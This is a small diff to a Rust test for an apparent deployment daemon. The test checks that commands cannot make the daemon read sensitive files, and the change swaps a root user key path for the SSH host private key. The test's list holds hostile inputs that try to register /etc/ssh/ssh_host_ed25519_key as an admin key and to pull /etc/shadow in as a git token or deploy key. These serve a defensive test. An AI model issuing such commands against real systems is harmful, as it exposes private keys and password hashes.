@@ -50,7 +50,7 @@ fn nothing_makes_the_daemon_read_a_file_for_somebody_far_away() {
     let flyloft = Flyloft::start();
     for command in [
         "up it-reach --path /root",
-        "keys add thief /root/.ssh/id_ed25519 --admin",
+        "keys add thief /etc/ssh/ssh_host_ed25519_key --admin",
         "apps create it-reach --git https://git.example.org/x --token-from /etc/shadow",
         "apps create it-reach --git git@git.example.org:x --deploy-key-from /etc/shadow",
     ] {
